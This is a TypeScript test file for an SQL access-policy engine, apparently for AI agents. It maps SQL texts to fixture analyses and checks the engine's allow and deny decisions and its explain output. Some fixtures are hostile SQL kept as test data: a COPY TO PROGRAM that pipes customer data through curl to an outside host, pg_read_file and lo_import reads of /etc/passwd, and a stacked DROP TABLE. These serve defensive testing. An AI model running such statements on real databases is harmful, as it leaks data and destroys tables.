// The real SQL analyzer is wired in by the CLI; here every SQL text maps to a hand-written
// fixture Analysis, so these tests check the policy and the case runner, not parsing.
import { readFile } from 'node:fs/promises'
import { describe, expect, test } from 'vitest'
import { explain, formatCasesReport, parsePolicyCases, runPolicyCases, type AnalyzeFn } from '../../src/policy/cases.js'
import { createPolicyEngine } from '../../src/policy/evaluator.js'
import { loadPolicyDirectory } from '../../src/policy/loader.js'
import type { StatementAnalysis } from '../../src/sql/types.js'
import { stmt } from './fixtures.js'

const policies = new URL('../../policies/', import.meta.url)
const ORDERS = 'analytics.public.orders'

/** SQL text of policies/cases/default.cases.yaml → fixture statements. */
/** psql's \\dt query, as in policies/cases/default.cases.yaml. */
const PSQL_DT = 'SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN \'r\' THEN \'table\' END as "Type", pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN (\'r\',\'p\',\'\') AND n.nspname <> \'pg_catalog\' AND n.nspname !~ \'^pg_toast\' AND n.nspname <> \'information_schema\' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2'

const FIXTURES: Record<string, StatementAnalysis[]> = {
  'SELECT id, total FROM analytics.public.orders': [stmt('select', { tablesRead: [ORDERS] })],
  'SELECT name FROM `acme-data.sales.customers` LIMIT 10': [stmt('select', { tablesRead: ['acme-data.sales.customers'], hasLimit: true })],
  'DESCRIBE TABLE analytics.public.orders': [stmt('show', { text: 'DESCRIBE TABLE analytics.public.orders', tablesRead: [ORDERS] })],
  'BEGIN; SELECT 1; COMMIT': [stmt('transaction', { text: 'BEGIN' }), stmt('select', { text: 'SELECT 1' }), stmt('transaction', { text: 'COMMIT' })],
  'DELETE FROM analytics.public.orders WHERE id = 1': [stmt('delete', { tablesWritten: [ORDERS] })],
  "INSERT INTO app.public.notes (body) VALUES ('hi')": [stmt('insert', { tablesWritten: ['app.public.notes'] })],
  'COPY INTO @stage/out FROM analytics.public.orders': [stmt('copy', { text: 'COPY INTO @stage/out FROM analytics.public.orders', tablesRead: [ORDERS] })],
  'USE ROLE ACCOUNTADMIN': [stmt('session', { text: 'USE ROLE ACCOUNTADMIN' })],
  'DROP TABLE analytics.public.orders': [stmt('ddl', { text: 'DROP TABLE analytics.public.orders', tablesWritten: [ORDERS] })],
  'GRANT SELECT ON TABLE analytics.public.orders TO ROLE public': [stmt('dcl', { text: 'GRANT SELECT ON TABLE analytics.public.orders TO ROLE public' })],
  'SELEC * FROM orders': [stmt('unknown', { text: 'SELEC * FROM orders', parseError: 'syntax error near SELEC', unparsed: { message: 'Expected: an SQL statement, found: SELEC', line: 1, column: 1 } })],
  'UNDROP TABLE analytics.public.orders': [stmt('unknown', { text: 'UNDROP TABLE analytics.public.orders', parseError: "Sluice's SQL parser does not read UNDROP" })],
  'SELECT 1; DROP TABLE analytics.public.orders': [stmt('select', { text: 'SELECT 1' }), stmt('ddl', { text: 'DROP TABLE analytics.public.orders', tablesWritten: [ORDERS] })],
  "SELECT * FROM app.public.users; UPDATE app.public.users SET name = 'x'": [
    stmt('select', { tablesRead: ['app.public.users'] }), stmt('update', { tablesWritten: ['app.public.users'] })
  ],
  'SELECT id FROM analytics.public.orders': [stmt('select', { tablesRead: [ORDERS] })],
  'SELECT 1': [stmt('select', { text: 'SELECT 1' })],
  'SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))': [stmt('select', { functions: ['last_query_id', 'result_scan'], rereads: [{ kind: 'result_scan', name: 'result_scan' }] })],
  'SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS': [stmt('select', { tablesRead: ['region-us.information_schema.jobs'], rereads: [{ kind: 'jobs', name: 'region-us.information_schema.jobs' }] })],
  // PostgreSQL: COPY in every direction, server-side functions, LISTEN / NOTIFY, catalog reads.
  'COPY public.customers FROM STDIN': [stmt('copy', { tablesWritten: ['app.public.customers'] })],
  'COPY public.customers TO STDOUT': [stmt('copy', { tablesRead: ['app.public.customers'] })],
  "COPY public.customers TO PROGRAM 'curl -d @- https://example.com'": [stmt('copy', { tablesRead: ['app.public.customers'] })],
  "SELECT pg_read_file('/etc/passwd')": [stmt('call', { functions: ['pg_read_file'], acting: ['pg_read_file'] })],
  "SELECT lo_import('/etc/passwd')": [stmt('call', { functions: ['lo_import'], acting: ['lo_import'] })],
  "SELECT * FROM dblink('host=elsewhere', 'select 1') AS t(x int)": [stmt('call', { functions: ['dblink'], acting: ['dblink'] })],
  'LISTEN orders': [stmt('notify')],
  'UNLISTEN *': [stmt('notify')],
  "NOTIFY orders, 'x'": [stmt('notify')],
  [PSQL_DT]: [stmt('select', { tablesRead: ['app.pg_catalog.pg_class', 'app.pg_catalog.pg_namespace'], functions: ['pg_catalog.pg_get_userbyid', 'pg_catalog.pg_table_is_visible'] })],
  "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public'": [stmt('select', { tablesRead: ['app.information_schema.columns'] })]
}

const fixtureAnalyze: AnalyzeFn = (sql, dialect) => {
  const statements = FIXTURES[sql]
  if (statements === undefined) throw new Error(`no fixture analysis for: ${sql}`)
  return { dialect, statements }
}

async function defaultEngine () {
  return createPolicyEngine(await loadPolicyDirectory(policies.pathname))
}

async function defaultCases () {
  return parsePolicyCases(await readFile(new URL('cases/default.cases.yaml', policies), 'utf8'), 'default.cases.yaml')
}

describe('policy test runner', () => {
  test('default policy: every case in policies/cases/default.cases.yaml passes (fixture analyses)', async () => {
    const report = runPolicyCases(await defaultCases(), await defaultEngine(), fixtureAnalyze)
    expect(formatCasesReport(report)).not.toContain('FAIL')
    expect(report).toMatchObject({ ok: true, failed: 0 })
    expect(report.total).toBeGreaterThanOrEqual(15)
  })

  test('a mismatch fails the run with a printable diff (fixture analyses)', async () => {
    const [first] = await defaultCases()
    const wrong = { ...first!, name: 'agent reads (wrongly expected deny)', expect: { effect: 'deny' as const, rule: 'deny-ddl-dcl', limits: { maxRows: 5 } } }
    const report = runPolicyCases([first!, wrong], await defaultEngine(), fixtureAnalyze)
    expect(report).toMatchObject({ ok: false, passed: 1, failed: 1 })
    const text = formatCasesReport(report)
    expect(text).toContain('FAIL 2. agent reads (wrongly expected deny)')
    expect(text).toContain('expected: deny by rule deny-ddl-dcl')
    expect(text).toContain('actual:   allow by rule agents-read-only')
    expect(text).toContain('limits.maxRows: expected 5, got 10000')
    expect(text).toContain('1 passed, 1 failed, 2 total')
  })

  test('an analysis that throws fails its case instead of aborting the run', async () => {
    const cases = parsePolicyCases('cases:\n  - { name: x, principal: { roles: [agent] }, connection: { name: c, kind: postgres }, sql: "NOPE", expect: { effect: deny } }')
    const report = runPolicyCases(cases, await defaultEngine(), fixtureAnalyze)
    expect(report.results[0]?.mismatches[0]).toContain('analysis failed: no fixture analysis for: NOPE')
  })

  test('cases files are validated: unknown names and bad keys are refused', () => {
    expect(() => parsePolicyCases('cases:\n  - { name: x, principal: ghost, connection: c, sql: s, expect: { effect: allow } }', 'my.cases.yaml'))
      .toThrow('policy file my.cases.yaml is invalid: /cases/0/principal: no principal named "ghost" under principals:; /cases/0/connection: no connection named "c"')
    expect(() => parsePolicyCases('cases:\n  - { name: x, principal: a, connection: c, sql: s, expect: { effect: maybe } }'))
      .toThrow('/cases/0/expect/effect')
    expect(() => parsePolicyCases('cases:\n  - { name: x, principal: a, connection: c, sql: s, now: yesterday, expect: { effect: allow } }\nconnections: { c: postgres }\nprincipals: { a: {} }'))
      .toThrow('/cases/0/now: "yesterday" is not an ISO 8601 date-time')
  })
})

describe('explain', () => {
  test('prints the analysis, the deciding rule per statement and the decision (fixture analyses)', async () => {
    const out = explain({
      principal: { subject: 'explain', type: 'human', roles: ['agent'], groups: [] },
      connection: { name: 'snowflake-prod', kind: 'snowflake' },
      sql: 'SELECT 1; DROP TABLE analytics.public.orders',
      now: new Date('2025-01-06T10:00:00Z')
    }, await defaultEngine(), fixtureAnalyze)
    expect(out.decision).toMatchObject({ effect: 'deny', ruleId: 'deny-ddl-dcl' })
    expect(out.text).toContain('statements: 2')
    expect(out.text).toContain('1. select: SELECT 1')
    expect(out.text).toContain('-> allow by rule agents-read-only (')
    expect(out.text).toContain('2. ddl: DROP TABLE analytics.public.orders')
    expect(out.text).toContain('written: analytics.public.orders')
    expect(out.text).toContain('decision:   deny by rule deny-ddl-dcl')
    expect(out.text).toContain('reason:     denied by rule deny-ddl-dcl: DDL (DROP) on analytics.public.orders (statement 2 of 2) is not allowed for role agent on connection snowflake-prod.')
    expect(out.text).toContain('limits:     none')
  })
})
